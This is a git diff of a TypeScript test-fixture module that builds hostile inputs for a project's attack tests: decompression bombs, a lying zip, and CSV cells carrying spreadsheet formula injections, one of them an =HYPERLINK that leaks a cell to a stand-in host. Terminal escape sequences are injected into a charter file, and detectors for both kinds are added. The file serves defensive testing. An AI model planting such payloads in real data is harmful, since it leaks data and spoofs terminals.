@@ -1,8 +1,13 @@
 /**
  * Hostile files built in memory for the attack tests and `npm run attack`: a deflate stream
  * that inflates to gigabytes from a few megabytes (a decompression bomb), a PDF whose page
- * content is such a stream, and a zip whose central directory lies about an entry's size.
+ * content is such a stream, a zip whose central directory lies about an entry's size, a
+ * charter whose cells are formulas and whose labels carry terminal escapes; and the checks of
+ * what they attack (live formulas in a CSV, as LibreOffice reads it; terminal controls).
  */
+import { spawnSync } from "node:child_process";
+import { existsSync, readdirSync, readFileSync } from "node:fs";
+import { join } from "node:path";
 import { crc32 } from "node:zlib";
 
 /** Writes bits least-significant first, as deflate packs them. */
@@ -153,4 +158,71 @@ export function zipBombLying(name: string, size: number, declared = 1000): Buffe
   end.writeUInt32LE(central.length + fname.length, 12);
   end.writeUInt32LE(cdOffset, 16);
   return Buffer.concat([local, fname, data, central, fname, end]);
+}
+
+/** A terminal escape that retitles the window (OSC 0), one that colours text red, the 8-bit CSI. */
+export const ESCAPES = { title: "\x1b]0;pwned\x07", red: "\x1b[31m", reset: "\x1b[0m", csi: "\u009b2J" } as const;
+
+/** A dimension label that retitles the terminal and colours it. */
+export const ESCAPE_LABEL = `${ESCAPES.title}Qualità ${ESCAPES.red}rossa${ESCAPES.reset}`;
+
+/** Cells a spreadsheet would run as formulas. */
+export const FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"clic")', "+1+1", "-2+3", "@SUM(1,1)", "=SUM(A1:A9)"] as const;
+
+/**
+ * A semicolon-separated charter (the text of fixtures/corpus/c05-genova-urp-2020/charter.csv)
+ * whose first indicator's description, target, achieved value, explanation and notes are
+ * FORMULAS, its quality factor ESCAPE_LABEL (no dimension: a review item), and whose second
+ * indicator's description carries escapes after the word "reclami".
+ */
+export function hostileCharterCsv(csv: string): string {
+  const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;
+  const lines = csv.split("\n");
+  const first = lines[7].split(";");
+  first[1] = quote(ESCAPE_LABEL);
+  [first[2], first[3], first[4], first[6], first[7]] = FORMULAS.map(quote);
+  lines[7] = first.join(";");
+  const second = lines[8].split(";");
+  second[2] = `Ore di apertura reclami ${ESCAPES.red}rossi${ESCAPES.reset}${ESCAPES.csi}`;
+  lines[8] = second.join(";");
+  return lines.join("\n");
+}
+
+/** RFC 4180 CSV as its cells, the header's included, in order. */
+export function csvCells(text: string): string[] {
+  const cells: string[] = [];
+  let cell = "";
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i];
+    if (quoted) {
+      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
+      else if (ch === '"') quoted = false;
+      else cell += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === "," || (ch === "\r" && text[i + 1] === "\n")) {
+      cells.push(cell);
+      cell = "";
+      if (ch === "\r") i++;
+    } else cell += ch;
+  }
+  return cells;
+}
+
+/** The cells a spreadsheet would run: text that starts with = + - @ tab or CR (a negative number is a number). */
+export const liveFormulas = (cells: string[]): string[] => cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-\d+(\.\d+)?(e[+-]?\d+)?$/i.test(c));
+
+/** The characters of a text a terminal would obey: C0 but tab and line feed, DEL, C1. */
+export const terminalControls = (s: string): string[] => s.match(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/g) ?? [];
+
+/** The formulas LibreOffice finds opening each CSV (converted to flat ODS), by file; null where soffice is not installed. */
+export function libreOfficeFormulas(files: string[], dir: string): Record<string, number> | null {
+  const soffice = ["/usr/bin/soffice", "/usr/local/bin/soffice"].find((p) => existsSync(p));
+  if (!soffice) return null;
+  const out = join(dir, "lo");
+  const r = spawnSync(soffice, [`-env:UserInstallation=file://${join(dir, "lo-profile")}`, "--headless", "--convert-to", "fods", "--outdir", out, ...files], { encoding: "utf8", timeout: 120_000 });
+  if (r.status !== 0) throw new Error(`soffice failed: ${r.stderr}`);
+  const counts: Record<string, number> = {};
+  for (const f of readdirSync(out)) counts[f.replace(/\.fods$/, ".csv")] = (readFileSync(join(out, f), "utf8").match(/table:formula="/g) ?? []).length;
+  return counts;
 }
